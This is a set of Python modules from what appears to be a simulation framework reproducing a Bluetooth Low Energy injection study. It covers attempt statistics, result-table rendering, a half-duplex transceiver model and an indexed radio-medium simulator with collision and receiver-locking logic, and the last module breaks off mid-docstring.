from repro.analysis.reporting import (
    render_distribution_table,
    render_metrics_table,
    render_series,
)

__all__ = [
    "BoxStats",
    "box_stats",
    "render_distribution_table",
    "render_metrics_table",
    "render_series",
]
