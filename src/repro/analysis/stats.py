"""Box-plot statistics for attempt distributions (the paper's Figure 9)."""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from repro.errors import ConfigurationError


@dataclass(frozen=True)
class BoxStats:
    """Summary statistics of one experiment configuration.

    Mirrors what the paper's box plots display: median, quartiles,
    whiskers (min/max) and variance.
    """

    count: int
    minimum: float
    q1: float
    median: float
    q3: float
    maximum: float
    mean: float
    variance: float

    @property
    def iqr(self) -> float:
        """Interquartile range."""
        return self.q3 - self.q1


def box_stats(values: list) -> BoxStats:
    """Compute :class:`BoxStats` over a non-empty sample."""
    if not values:
        raise ConfigurationError("cannot summarise an empty sample")
    arr = np.asarray(values, dtype=float)
    return BoxStats(
        count=int(arr.size),
        minimum=float(arr.min()),
        q1=float(np.percentile(arr, 25)),
        median=float(np.median(arr)),
        q3=float(np.percentile(arr, 75)),
        maximum=float(arr.max()),
        mean=float(arr.mean()),
        variance=float(arr.var(ddof=1)) if arr.size > 1 else 0.0,
    )
