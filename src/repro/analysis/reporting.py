"""Text rendering of experiment results.

The benchmarks print these tables so a run of ``pytest benchmarks/``
regenerates the content of each figure panel as rows (configuration value →
attempt distribution), which EXPERIMENTS.md compares against the paper.
"""

from __future__ import annotations

from typing import Mapping, Sequence

from repro.analysis.stats import box_stats


def render_distribution_table(
    title: str,
    column: str,
    samples: Mapping,
) -> str:
    """Render per-configuration attempt distributions as an ASCII table.

    Args:
        title: table caption.
        column: name of the configuration column (e.g. ``hop interval``).
        samples: mapping of configuration value → list of attempt counts.
    """
    lines = [title, "=" * len(title)]
    header = (f"{column:>16} | {'n':>3} | {'min':>4} | {'q1':>5} | "
              f"{'med':>5} | {'q3':>5} | {'max':>4} | {'var':>8}")
    lines.append(header)
    lines.append("-" * len(header))
    for key in samples:
        stats = box_stats(list(samples[key]))
        lines.append(
            f"{str(key):>16} | {stats.count:>3} | {stats.minimum:>4.0f} | "
            f"{stats.q1:>5.1f} | {stats.median:>5.1f} | {stats.q3:>5.1f} | "
            f"{stats.maximum:>4.0f} | {stats.variance:>8.2f}"
        )
    return "\n".join(lines)


def render_series(title: str, rows: Sequence[tuple]) -> str:
    """Render simple key/value result rows."""
    lines = [title, "=" * len(title)]
    for row in rows:
        key, *rest = row
        lines.append(f"{str(key):>24} : " + "  ".join(str(v) for v in rest))
    return "\n".join(lines)


def render_roc_table(title: str, rows: Sequence[Mapping]) -> str:
    """Render defense-bench ROC rows as an ASCII table.

    Args:
        title: table caption.
        rows: dicts from
            :func:`repro.experiments.defense.summarize_defense` —
            ``detector``/``traffic`` keys plus ``auc``, ``tpr``, ``fpr``,
            ``detected``/``n_pos``/``n_neg`` counts and first-alert
            latency quantiles in µs (``None`` renders as ``-``).
    """

    def num(value, spec: str) -> str:
        return "-" if value is None else format(value, spec)

    def ms(value_us) -> str:
        return "-" if value_us is None else f"{value_us / 1_000.0:.1f}"

    lines = [title, "=" * len(title)]
    header = (f"{'detector':>18} | {'traffic':<18} | {'AUC':>5} | "
              f"{'TPR':>5} | {'FPR':>5} | {'det':>5} | "
              f"{'p50 lat ms':>10} | {'p90 lat ms':>10}")
    lines.append(header)
    lines.append("-" * len(header))
    for row in rows:
        detected = f"{row['detected']}/{row['n_pos']}"
        lines.append(
            f"{row['detector']:>18} | {row['traffic']:<18} | "
            f"{num(row['auc'], '.3f'):>5} | {num(row['tpr'], '.2f'):>5} | "
            f"{num(row['fpr'], '.2f'):>5} | {detected:>5} | "
            f"{ms(row['latency_p50_us']):>10} | "
            f"{ms(row['latency_p90_us']):>10}"
        )
    if not rows:
        lines.append("(no completed monitored trials)")
    return "\n".join(lines)


def render_failure_taxonomy(title: str, failures: Mapping) -> str:
    """Render campaign failures grouped by kind.

    Args:
        title: table caption.
        failures: mapping of failure kind (``timeout``/``crash``/
            ``error``) → list of failed unit ids.
    """
    lines = [title, "=" * len(title)]
    if not failures:
        lines.append("(no failures)")
        return "\n".join(lines)
    for kind in sorted(failures):
        unit_ids = list(failures[kind])
        shown = ", ".join(unit_ids[:6])
        if len(unit_ids) > 6:
            shown += f", … ({len(unit_ids) - 6} more)"
        lines.append(f"{kind:>16} : {len(unit_ids):>3}  {shown}")
    return "\n".join(lines)


def render_metrics_table(title: str, snapshot: Mapping) -> str:
    """Render a telemetry snapshot (or merge of snapshots) as text.

    Args:
        title: table caption.
        snapshot: a :meth:`~repro.telemetry.metrics.MetricsRegistry.snapshot`
            dict — ``counters`` name → value, ``gauges`` name → value,
            ``histograms`` name → ``{"buckets", "counts", "sum", "count"}``.
    """
    lines = [title, "=" * len(title)]
    counters = snapshot.get("counters", {})
    gauges = snapshot.get("gauges", {})
    histograms = snapshot.get("histograms", {})
    for name in sorted(counters):
        lines.append(f"{name:>32} : {counters[name]}")
    for name in sorted(gauges):
        lines.append(f"{name:>32} : {gauges[name]:g} (gauge)")
    for name in sorted(histograms):
        hist = histograms[name]
        count = hist["count"]
        mean = hist["sum"] / count if count else 0.0
        lines.append(
            f"{name:>32} : n={count} mean={mean:.2f} "
            f"sum={hist['sum']:g}"
        )
    if len(lines) == 2:
        lines.append("(no metrics recorded)")
    return "\n".join(lines)
