"""A half-duplex radio transceiver bound to the medium.

The transceiver is the boundary between the Link-Layer state machines and
the physical simulation: the LL asks it to listen on a channel or to
transmit a frame; the medium calls back with received frames and their
RSSI.  It is deliberately dumb — no protocol knowledge — so the same
transceiver serves legitimate devices, the sniffer and the attacker.
"""

from __future__ import annotations

import enum
from typing import Callable, Optional

from repro.errors import MediumError
from repro.phy.modulation import PhyMode, air_time_us
from repro.phy.signal import RadioFrame
from repro.sim.clock import SleepClock
from repro.sim.events import TIME_EPS_US
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator

#: Type of the receive callback: (frame, rssi_dbm) -> None.
RxCallback = Callable[[RadioFrame, float], None]


class TransceiverState(enum.Enum):
    """Radio state."""

    IDLE = "idle"
    RX = "rx"
    TX = "tx"


class Transceiver:
    """Half-duplex radio front end.

    Args:
        sim: owning simulator.
        medium: shared radio medium (must be able to locate ``name`` in its
            topology).
        name: device name; must match a topology placement.
        clock: the device's sleep clock (used by callers to schedule).
        tx_power_dbm: transmit power; 0 dBm is typical for BLE.
        sensitivity_dbm: below this received power nothing is heard.
    """

    def __init__(
        self,
        sim: Simulator,
        medium: Medium,
        name: str,
        clock: Optional[SleepClock] = None,
        tx_power_dbm: float = 0.0,
        sensitivity_dbm: float = -90.0,
    ):
        self.sim = sim
        self.medium = medium
        self.name = name
        self.clock = clock if clock is not None else SleepClock(
            rng=sim.streams.get(f"clock-{name}")
        )
        self.tx_power_dbm = tx_power_dbm
        self.sensitivity_dbm = sensitivity_dbm
        self.medium_id = medium.register(self)
        #: PHY the receiver is demodulating; a frame on another PHY cannot
        #: be locked (GFSK at a different symbol rate does not correlate).
        self.rx_phy: PhyMode = PhyMode.LE_1M
        self._state = TransceiverState.IDLE
        self._rx_channel: Optional[int] = None
        self._rx_since_us: Optional[float] = None
        self._tx_until_us = -1.0
        self.on_frame: Optional[RxCallback] = None
        self.on_tx_complete: Optional[Callable[[RadioFrame], None]] = None

    # ------------------------------------------------------------------
    # State
    # ------------------------------------------------------------------

    @property
    def state(self) -> TransceiverState:
        """Current radio state."""
        if self._tx_until_us > self.sim.now:
            return TransceiverState.TX
        if self._rx_channel is not None:
            return TransceiverState.RX
        return TransceiverState.IDLE

    def is_listening_on(self, channel: int, since_us: Optional[float]) -> bool:
        """Whether the radio is in RX on ``channel``.

        Args:
            channel: channel to test.
            since_us: if given, also require listening to have begun at or
                before this time (a receiver that tuned in mid-frame cannot
                sync on the preamble).
        """
        if self._rx_channel != channel:
            return False
        if since_us is not None and self._rx_since_us is not None:
            return self._rx_since_us <= since_us + TIME_EPS_US
        return True

    def is_transmitting(self, at_us: float) -> bool:
        """Whether a transmission of ours is still on air at ``at_us``."""
        return self._tx_until_us > at_us + TIME_EPS_US

    # ------------------------------------------------------------------
    # Radio operations
    # ------------------------------------------------------------------

    def listen(self, channel: int) -> None:
        """Enter RX on ``channel`` (replacing any previous RX window)."""
        if not 0 <= channel < 40:
            raise MediumError(f"invalid channel {channel}")
        if self._rx_channel != channel:
            self.medium.note_listen(self, self._rx_channel, channel)
        self._rx_channel = channel
        self._rx_since_us = self.sim.now

    def stop_listening(self) -> None:
        """Leave RX."""
        if self._rx_channel is not None:
            self.medium.note_listen(self, self._rx_channel, None)
        self._rx_channel = None
        self._rx_since_us = None

    def transmit(
        self,
        access_address: int,
        pdu: bytes,
        crc: int,
        channel: int,
        phy: PhyMode = PhyMode.LE_1M,
    ) -> RadioFrame:
        """Start transmitting a frame now; returns the on-air frame.

        The radio is half duplex: transmitting suspends reception for the
        duration of the frame (this is why the attacker cannot directly
        observe the legitimate Master frame it races against, paper §V-D).
        """
        if self.is_transmitting(self.sim.now):
            raise MediumError(f"{self.name}: already transmitting")
        frame = RadioFrame(
            access_address=access_address,
            pdu=pdu,
            crc=crc,
            channel=channel,
            start_us=self.sim.now,
            tx_power_dbm=self.tx_power_dbm,
            phy=phy,
            sender_id=self.medium_id,
        )
        self._tx_until_us = frame.end_us
        self.medium.transmit(frame, self)
        return frame

    def tx_duration_us(self, pdu_len: int, phy: PhyMode = PhyMode.LE_1M) -> float:
        """Air time this radio would need for a ``pdu_len``-byte PDU."""
        return air_time_us(pdu_len, phy)

    # ------------------------------------------------------------------
    # Medium callbacks
    # ------------------------------------------------------------------

    def deliver(self, frame: RadioFrame, rssi_dbm: float) -> None:
        """Called by the medium when a frame addressed our way completes."""
        if self.on_frame is not None:
            self.on_frame(frame, rssi_dbm)

    def on_tx_done(self, frame: RadioFrame) -> None:
        """Called by the medium when our own transmission completes."""
        if self.on_tx_complete is not None:
            self.on_tx_complete(frame)

    def __repr__(self) -> str:
        return f"Transceiver({self.name!r}, state={self.state.value})"
