"""The shared radio medium.

The medium connects transceivers: it propagates every transmission to every
listening transceiver, applying path loss (distance, walls, shadowing),
receiver locking, and the capture-effect collision model.

Receiver locking
----------------
A real BLE receiver correlates on the preamble/access address and, once
synchronised to a frame, demodulates it to the end; a frame that starts
while the receiver is busy is seen only as interference.  This is the exact
mechanism the InjectaBLE race relies on: if the injected frame starts
*before* the legitimate Master frame, the Slave locks onto the injected one
and the Master frame can only corrupt it (paper Fig. 5, situations a/b),
whereas if the Master starts first the injection fails outright
(situation c).

The medium implements this by assigning locks at transmission *start* time:
an eligible listening receiver that is not already locked becomes locked to
the new frame until its end.  At frame end the locked frame is resolved
against every overlapping transmission and delivered (possibly corrupted).

Indexed propagation
-------------------
Per-frame cost scales with the receivers that can actually hear the frame,
not with world size (the broadcast path is O(world) per frame, which melts
at the 100+ connection dense-RF worlds the occupancy sweep runs):

* **per-channel interest sets** — transceivers publish every RX retune via
  :meth:`note_listen`, so lock assignment iterates only the listeners on
  the frame's channel;
* **per-channel active/recent frame indexes** — collision resolution and
  :meth:`active_on_channel` touch only co-channel overlaps;
* **a spatial grid over the topology** (:class:`~repro.sim.topology.
  SpatialGrid`, cell ≈ the max propagation range at the sensitivity
  floor), consulted once a channel's listener set is large enough to be
  worth range-pruning before any path-loss math; rebuilt lazily whenever
  :attr:`Topology.version` moves;
* **lazy per-link shadowing** — shadowing draws come from counter-based
  per-(sender, receiver) RNG substreams indexed by the sender's
  transmission sequence number, so a draw is a pure function of
  (link, tx_seq).  Pruning unheard receivers, or evaluating a draw late
  (first needed as interference), cannot perturb any other link's draws —
  the property that keeps the indexed and broadcast media trace-identical
  and lets the fast-forward engine skip off-link draws entirely.

``Medium(indexed=False)`` keeps the original broadcast behaviour (every
frame eagerly sampled at every transceiver) as a differential baseline;
``benchmarks/test_bench_medium.py`` measures one against the other.

Hot-path notes
--------------
``transmit``/``_finish`` run once per frame, i.e. millions of times per
experiment sweep, so:

* in-flight frames live in dicts keyed by ``frame_id`` (O(1) removal at
  frame end instead of a list scan);
* the recently-finished window is a per-channel deque pruned incrementally
  from the left (frames finish in time order);
* receiver locks are additionally indexed per frame id, so resolving a
  finished frame touches only the receivers locked to it;
* geometry (``topology.distance``/``walls_between`` and the derived mean
  loss) is cached per (sender, receiver) pair and invalidated via
  :attr:`Topology.version` whenever a device moves or a wall is added;
* trace records are guarded by ``trace.enabled`` at the call site, so a
  disabled trace costs no kwargs-dict allocation;
* metrics instruments are pre-bound at construction and guarded by
  ``metrics.enabled`` — the telemetry-off path costs one attribute check
  per frame (the benchmark guard asserts < 2% event throughput).
"""

from __future__ import annotations

from collections import deque
from itertools import chain
from typing import TYPE_CHECKING, Optional

from repro.errors import MediumError
from repro.phy.collision import CollisionModel, Overlap
from repro.phy.path_loss import PathLossModel
from repro.phy.signal import RadioFrame
from repro.sim.events import TIME_EPS_US
from repro.sim.simulator import Simulator
from repro.sim.topology import SpatialGrid, Topology

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from repro.sim.transceiver import Transceiver

#: Frames that ended longer ago than this no longer matter for collision
#: resolution (the longest BLE frame is ~2.1 ms on air); recent-frame
#: deques are pruned past it.  The fast-forward engine mirrors this when
#: rebuilding the recent window after a batched stretch.
RECENT_HORIZON_US = 20_000.0

#: Link-margin multiple of the shadowing sigma treated as "cannot happen".
#: The indexed medium prunes a candidate receiver without drawing its
#: shadowing when even an 8-sigma fade-up leaves the mean received power
#: below the sensitivity floor (single-draw probability ~1e-15 — the same
#: tolerance the fast-forward engine's engagement audit uses).
LINK_MARGIN_SIGMAS = 8.0

#: Minimum on-channel listener count before the spatial grid is consulted;
#: below it the per-channel interest set is already small enough that a
#: grid query costs more than the path-loss math it would prune.
_GRID_MIN_LISTENERS = 24

#: Nominal transmit power used to size grid cells (0 dBm is typical BLE).
#: Cell size is a performance knob only — ``SpatialGrid.near`` covers the
#: per-frame radius with however many rings it takes, so a hotter
#: transmitter just walks one extra ring.
_GRID_REF_TX_POWER_DBM = 0.0


class _ActiveTransmission:
    """Bookkeeping for a frame currently on air (one per transmitted frame)."""

    __slots__ = ("frame", "sender", "tx_seq", "rx_power_dbm")

    def __init__(self, frame: RadioFrame, sender: "Transceiver", tx_seq: int):
        self.frame = frame
        self.sender = sender
        #: The sender's transmission counter at this frame — the per-link
        #: shadowing draw index, so lazily-computed powers are reproducible.
        self.tx_seq = tx_seq
        #: Received power per receiver id, filled on demand (indexed mode)
        #: or eagerly at start (broadcast mode).
        self.rx_power_dbm: dict[int, float] = {}


class _ReceiverLock:
    """A receiver synchronised to one in-flight frame."""

    __slots__ = ("frame_id", "until_us")

    def __init__(self, frame_id: int, until_us: float):
        self.frame_id = frame_id
        self.until_us = until_us


class _LinkShadow:
    """Counter-indexed shadowing draws for one (sender, receiver) link.

    ``value(seq)`` is the shadowing of the sender's ``seq``-th transmission
    as heard on this link — a pure function of (link, seq), whatever order
    or grouping the draws are requested in.  That holds because
    ``numpy.random.Generator.normal(0, s, n)`` consumes the bit stream
    exactly as ``n`` scalar draws would (same values, same end state), so
    producing draws in blocks and caching the not-yet-requested ones is
    invisible.  Requests may arrive out of order (a frame's power can be
    first needed as *interference* long after later frames drew theirs);
    produced-but-unclaimed draws wait in ``_pending``.
    """

    __slots__ = ("_rng", "_sigma", "_produced", "_pending")

    #: Draws generated per RNG call; amortises numpy call overhead.
    _BLOCK = 32

    #: Pending entries allowed before pruning.  A request can only reach
    #: back as far as the recent-frame horizon (~450 frames per link at
    #: the minimum frame length), so entries 4096 indexes behind the
    #: production watermark are unreachable.
    _PENDING_MAX = 4096

    def __init__(self, rng, sigma: float):
        self._rng = rng
        self._sigma = sigma
        self._produced = 0
        self._pending: dict[int, float] = {}

    def value(self, seq: int) -> float:
        """The link's shadowing draw for transmission index ``seq``, in dB."""
        pending = self._pending
        if seq < self._produced:
            return pending.pop(seq)
        need = seq + 1 - self._produced
        block = self._rng.normal(0.0, self._sigma, max(need, self._BLOCK))
        base = self._produced
        for offset, draw in enumerate(block):
            pending[base + offset] = float(draw)
        self._produced = base + len(block)
        if len(pending) > self._PENDING_MAX:
            cutoff = self._produced - self._PENDING_MAX
            for key in [k for k in pending if k < cutoff]:
                del pending[key]
        return pending.pop(seq)


class Medium:
    """Radio propagation between registered transceivers.

    Args:
        sim: owning simulator (scheduling and RNG streams).
        topology: device positions and walls.
        path_loss: propagation model.
        collision: capture-effect model.
        sensitivity_dbm: default receiver sensitivity; frames arriving below
            it neither lock nor deliver.
        indexed: use the per-channel/spatial indexes and lazy per-link
            shadowing (the default); ``False`` restores the broadcast
            medium that eagerly samples every frame at every transceiver —
            same traces, O(world) per frame — kept as the differential and
            benchmark baseline.
    """

    def __init__(
        self,
        sim: Simulator,
        topology: Optional[Topology] = None,
        path_loss: Optional[PathLossModel] = None,
        collision: Optional[CollisionModel] = None,
        sensitivity_dbm: float = -90.0,
        indexed: bool = True,
    ):
        self.sim = sim
        self.topology = topology if topology is not None else Topology()
        self.path_loss = path_loss if path_loss is not None else PathLossModel()
        self.collision = collision if collision is not None else CollisionModel()
        self.sensitivity_dbm = sensitivity_dbm
        self.indexed = indexed
        self._transceivers: dict[int, "Transceiver"] = {}
        self._next_id = 0
        self._active: dict[int, _ActiveTransmission] = {}
        # Per-channel views of the in-flight and recently-finished frames;
        # iteration order within a channel matches the global insertion /
        # finish order, so collision resolution consumes the collision RNG
        # exactly as a whole-world scan filtered by channel would.
        self._active_by_channel: dict[int, dict[int, _ActiveTransmission]] = {}
        self._recent_by_channel: dict[int, deque] = {}
        # channel -> {medium id -> transceiver} currently in RX there,
        # maintained by Transceiver via note_listen.
        self._listeners: dict[int, dict[int, "Transceiver"]] = {}
        self._locks: dict[int, _ReceiverLock] = {}
        # frame_id -> medium ids locked to it, so _finish resolves in
        # O(locks on this frame) instead of scanning the whole lock table.
        self._frame_locks: dict[int, list[int]] = {}
        # sender id -> transmissions so far (the per-link draw index).
        self._tx_seq: dict[int, int] = {}
        self._link_shadows: dict[tuple[int, int], _LinkShadow] = {}
        self._collision_rng = sim.streams.get("medium-collision")
        self._taps: list = []
        # (sender_id, receiver_id) -> (distance_m, walls crossed, mean
        # loss dB); rebuilt lazily whenever the topology version moves.
        self._path_cache: dict[tuple[int, int], tuple[float, tuple, float]] = {}
        self._path_cache_version = -1
        self._grid: Optional[SpatialGrid] = None
        metrics = sim.metrics
        self._metrics = metrics
        self._m_tx = metrics.counter("medium.tx")
        self._m_rx = metrics.counter("medium.rx")
        self._m_rx_corrupted = metrics.counter("medium.rx.corrupted")
        self._m_rx_busy = metrics.counter("medium.rx_busy")
        self._m_collisions = metrics.counter("medium.collisions")
        # Per-channel airtime counters, bound on first use per channel.
        self._m_airtime: dict[int, object] = {}

    def register(self, transceiver: "Transceiver") -> int:
        """Attach a transceiver; returns its medium id."""
        tid = self._next_id
        self._next_id += 1
        self._transceivers[tid] = transceiver
        return tid

    def note_listen(self, transceiver: "Transceiver",
                    old: Optional[int], new: Optional[int]) -> None:
        """RX retune hook: keep the per-channel interest sets current.

        Called by :class:`~repro.sim.transceiver.Transceiver` whenever its
        RX channel changes (``old``/``new`` of ``None`` mean not listening).
        """
        tid = transceiver.medium_id
        if old is not None:
            listeners = self._listeners.get(old)
            if listeners is not None:
                listeners.pop(tid, None)
        if new is not None:
            listeners = self._listeners.get(new)
            if listeners is None:
                listeners = self._listeners[new] = {}
            listeners[tid] = transceiver

    # ------------------------------------------------------------------
    # Propagation geometry (cached) and per-link shadowing
    # ------------------------------------------------------------------

    def _path_to(self, sender: "Transceiver", tid: int
                 ) -> tuple[float, tuple, float]:
        """(distance, walls, mean loss) from ``sender`` to transceiver ``tid``."""
        topology = self.topology
        if topology.version != self._path_cache_version:
            self._path_cache.clear()
            self._grid = None
            self._path_cache_version = topology.version
        key = (sender.medium_id, tid)
        path = self._path_cache.get(key)
        if path is None:
            rx = self._transceivers[tid]
            distance = topology.distance(sender.name, rx.name)
            walls = topology.walls_between(sender.name, rx.name)
            path = (distance, walls,
                    self.path_loss.mean_loss_db(distance, walls))
            self._path_cache[key] = path
        return path

    def _link_shadow(self, sender: "Transceiver", tid: int) -> _LinkShadow:
        """The shadowing substream of the ``sender`` → ``tid`` link."""
        key = (sender.medium_id, tid)
        shadow = self._link_shadows.get(key)
        if shadow is None:
            rx = self._transceivers[tid]
            rng = self.sim.streams.get(f"shadow-{sender.name}->{rx.name}")
            shadow = _LinkShadow(rng, self.path_loss.shadowing_sigma_db)
            self._link_shadows[key] = shadow
        return shadow

    def _power_at(self, tx: _ActiveTransmission, tid: int) -> float:
        """Received power of ``tx`` at transceiver ``tid`` (memoised)."""
        power = tx.rx_power_dbm.get(tid)
        if power is None:
            _distance, _walls, mean_loss = self._path_to(tx.sender, tid)
            loss = mean_loss
            if self.path_loss.shadowing_sigma_db > 0.0:
                loss += self._link_shadow(tx.sender, tid).value(tx.tx_seq)
            power = tx.frame.tx_power_dbm - loss
            tx.rx_power_dbm[tid] = power
        return power

    def _grid_candidates(self, tx: _ActiveTransmission,
                         n_listeners: int) -> Optional[set]:
        """Names possibly in range of ``tx``, or ``None`` (no pruning).

        Only consulted for crowded channels; the returned set is a superset
        of the in-range devices (grid rings + the link-margin radius), so
        membership filtering drops provably-deaf receivers only.
        """
        if n_listeners < _GRID_MIN_LISTENERS:
            return None
        topology = self.topology
        grid = self._grid
        if grid is None or grid.version != topology.version:
            sigma = self.path_loss.shadowing_sigma_db
            cell_budget = (_GRID_REF_TX_POWER_DBM - self.sensitivity_dbm
                           + LINK_MARGIN_SIGMAS * sigma)
            grid = self._grid = SpatialGrid(
                topology, self.path_loss.max_range_m(cell_budget))
        sigma = self.path_loss.shadowing_sigma_db
        budget = (tx.frame.tx_power_dbm - self.sensitivity_dbm
                  + LINK_MARGIN_SIGMAS * sigma)
        radius = self.path_loss.max_range_m(budget)
        return grid.near(topology.position_of(tx.sender.name), radius)

    # ------------------------------------------------------------------
    # Transmission path
    # ------------------------------------------------------------------

    def transmit(self, frame: RadioFrame, sender: "Transceiver") -> None:
        """Put ``frame`` on air; called by the sender at frame start time."""
        sender_id = sender.medium_id
        if sender_id not in self._transceivers:
            raise MediumError(f"transceiver {sender.name!r} is not registered")
        if abs(frame.start_us - self.sim.now) > TIME_EPS_US:
            raise MediumError(
                f"frame start {frame.start_us} != now {self.sim.now}"
            )
        seq = self._tx_seq.get(sender_id, 0)
        self._tx_seq[sender_id] = seq + 1
        tx = _ActiveTransmission(frame=frame, sender=sender, tx_seq=seq)
        if not self.indexed:
            self._sample_rx_powers(tx)
        self._active[frame.frame_id] = tx
        actives = self._active_by_channel.get(frame.channel)
        if actives is None:
            actives = self._active_by_channel[frame.channel] = {}
        actives[frame.frame_id] = tx
        self._assign_locks(tx)
        trace = self.sim.trace
        if trace.enabled:
            trace.record(
                self.sim.now, sender.name, "tx",
                channel=frame.channel, aa=frame.access_address,
                pdu_len=len(frame.pdu), frame_id=frame.frame_id,
            )
        if self._metrics.enabled:
            self._m_tx.inc()
            airtime = self._m_airtime.get(frame.channel)
            if airtime is None:
                airtime = self._m_airtime[frame.channel] = \
                    self._metrics.counter(
                        f"medium.airtime_us.ch{frame.channel:02d}")
            airtime.inc(frame.duration_us)
        self.sim.schedule_at(frame.end_us, lambda: self._finish(tx), "medium-finish")
        for tap in self._taps:
            tap(frame)

    def _sample_rx_powers(self, tx: _ActiveTransmission) -> None:
        """Eagerly sample ``tx``'s power at every other transceiver.

        The broadcast (non-indexed) baseline: O(world) per frame.  Draws
        come from the same per-link substreams the lazy path uses, so the
        values are identical either way.
        """
        sender_id = tx.sender.medium_id
        for tid in self._transceivers:
            if tid != sender_id:
                self._power_at(tx, tid)

    def _assign_locks(self, tx: _ActiveTransmission) -> None:
        """Lock every eligible idle listening receiver onto ``tx``."""
        now = self.sim.now
        trace = self.sim.trace
        frame = tx.frame
        sender_id = tx.sender.medium_id
        margin = 0.0
        near: Optional[set] = None
        if self.indexed:
            listeners = self._listeners.get(frame.channel)
            if not listeners:
                return
            # Ascending medium-id order matches the broadcast scan's
            # registration order, so rx-busy/rx-lock traces and lock-table
            # insertion order are identical between the two modes.
            candidates = [(tid, listeners[tid]) for tid in sorted(listeners)]
            margin = LINK_MARGIN_SIGMAS * self.path_loss.shadowing_sigma_db
            near = self._grid_candidates(tx, len(candidates))
        else:
            candidates = list(self._transceivers.items())
        for tid, rx in candidates:
            if tid == sender_id:
                continue
            if not rx.is_listening_on(frame.channel, since_us=now):
                continue
            if rx.rx_phy is not frame.phy:
                continue  # wrong symbol rate: no preamble correlation
            if rx.is_transmitting(at_us=now):
                continue  # half duplex
            floor = max(self.sensitivity_dbm, rx.sensitivity_dbm)
            if self.indexed:
                if near is not None and rx.name not in near:
                    continue
                mean_loss = self._path_to(tx.sender, tid)[2]
                if frame.tx_power_dbm - mean_loss + margin < floor:
                    continue  # deaf even under an 8-sigma fade-up: no draw
            if self._power_at(tx, tid) < floor:
                continue
            lock = self._locks.get(tid)
            if lock is not None and lock.until_us > now + TIME_EPS_US:
                # Receiver busy demodulating an earlier frame: this frame is
                # interference only (handled at resolution time).
                if trace.enabled:
                    trace.record(
                        now, rx.name, "rx-busy",
                        frame_id=frame.frame_id, locked_to=lock.frame_id,
                    )
                if self._metrics.enabled:
                    self._m_rx_busy.inc()
                continue
            self._locks[tid] = _ReceiverLock(frame.frame_id, frame.end_us)
            locked = self._frame_locks.get(frame.frame_id)
            if locked is None:
                locked = self._frame_locks[frame.frame_id] = []
            locked.append(tid)
            if trace.enabled:
                trace.record(
                    now, rx.name, "rx-lock",
                    frame_id=frame.frame_id, channel=frame.channel,
                    rssi_dbm=tx.rx_power_dbm[tid],
                )

    def _append_recent(self, tx: _ActiveTransmission) -> None:
        """File a finished transmission in its channel's recent window.

        Frames finish in time order, so each deque is sorted by end time
        and pruning from the left is exact.  Idle channels keep their last
        few frames until the next finish there — unobservable, since a
        frame past the horizon can no longer overlap anything.
        """
        channel = tx.frame.channel
        recent = self._recent_by_channel.get(channel)
        if recent is None:
            recent = self._recent_by_channel[channel] = deque()
        recent.append(tx)
        horizon = self.sim.now - RECENT_HORIZON_US
        while recent and recent[0].frame.end_us < horizon:
            recent.popleft()

    def _finish(self, tx: _ActiveTransmission) -> None:
        """Frame finished: resolve collisions and deliver to locked receivers."""
        frame = tx.frame
        fid = frame.frame_id
        self._active.pop(fid, None)
        actives = self._active_by_channel.get(frame.channel)
        if actives is not None:
            actives.pop(fid, None)
        self._append_recent(tx)
        tx.sender.on_tx_done(frame)

        locked = self._frame_locks.pop(fid, None)
        if not locked:
            return
        if len(locked) > 1:
            # Multi-receiver frames deliver in lock-*table* order, which an
            # overwritten-then-relocked receiver keeps from its first entry
            # (dict update preserves position).  Re-derive it so delivery —
            # and hence collision-RNG consumption — matches the pre-index
            # whole-table scan exactly.  O(currently locked receivers).
            locked = [tid for tid, lock in self._locks.items()
                      if lock.frame_id == fid]
        trace = self.sim.trace
        for tid in locked:
            lock = self._locks.get(tid)
            if lock is None or lock.frame_id != fid:
                continue  # lock was overwritten at this exact instant
            del self._locks[tid]
            rx = self._transceivers[tid]
            if not rx.is_listening_on(frame.channel, since_us=None):
                # Receiver gave up (window closed) before the frame ended.
                if trace.enabled:
                    trace.record(
                        self.sim.now, rx.name, "rx-abandoned",
                        frame_id=fid,
                    )
                continue
            copy = frame.copy_for_receiver()
            outcome = self._resolve_interference(tx, tid)
            if outcome is not None and not outcome.survived:
                copy.corrupted = True
            if trace.enabled:
                trace.record(
                    self.sim.now, rx.name, "rx",
                    frame_id=copy.frame_id, corrupted=copy.corrupted,
                    rssi_dbm=tx.rx_power_dbm[tid],
                )
            if self._metrics.enabled:
                self._m_rx.inc()
                if copy.corrupted:
                    self._m_rx_corrupted.inc()
            rx.deliver(copy, tx.rx_power_dbm[tid])

    def _resolve_interference(self, tx: _ActiveTransmission, receiver_id: int):
        """Resolve ``tx`` against all frames overlapping it at ``receiver_id``."""
        overlaps: list[Overlap] = []
        wanted_power = tx.rx_power_dbm[receiver_id]
        frame = tx.frame
        start_us, end_us = frame.start_us, frame.end_us
        actives = self._active_by_channel.get(frame.channel)
        recents = self._recent_by_channel.get(frame.channel)
        for other in chain(actives.values() if actives else (),
                           recents if recents is not None else ()):
            other_frame = other.frame
            # Inline RadioFrame.overlaps minus its channel test — the
            # per-channel indexes only ever hand us co-channel frames, and
            # the recent window holds many frames too old to overlap.
            if other_frame.end_us <= start_us or end_us <= other_frame.start_us:
                continue
            if other_frame.frame_id == frame.frame_id:
                continue
            if other.sender.medium_id == receiver_id:
                continue  # a receiver is deaf to its own TX, not corrupted by it
            overlaps.append(
                Overlap(
                    start_us=max(frame.start_us, other.frame.start_us),
                    end_us=min(frame.end_us, other.frame.end_us),
                    sir_db=wanted_power - self._power_at(other, receiver_id),
                )
            )
        if not overlaps:
            return None
        outcome = self.collision.resolve(frame, overlaps, self._collision_rng)
        if self._metrics.enabled:
            self._m_collisions.inc()
        trace = self.sim.trace
        if trace.enabled:
            trace.record(
                self.sim.now, self._transceivers[receiver_id].name, "collision",
                frame_id=frame.frame_id,
                overlapped_bits=outcome.overlapped_bits,
                corrupted_bits=outcome.corrupted_bits,
                survived=outcome.survived,
            )
        return outcome

    # ------------------------------------------------------------------
    # Introspection
    # ------------------------------------------------------------------

    def active_on_channel(self, channel: int) -> list[RadioFrame]:
        """Frames currently on air on ``channel`` (for IDS-style monitors)."""
        actives = self._active_by_channel.get(channel)
        if not actives:
            return []
        return [t.frame for t in actives.values()]

    def add_tap(self, tap) -> None:
        """Register a wideband monitor callback, called at every frame start.

        Models an SDR-based IDS (RadIoT-style, paper §VIII): the tap sees
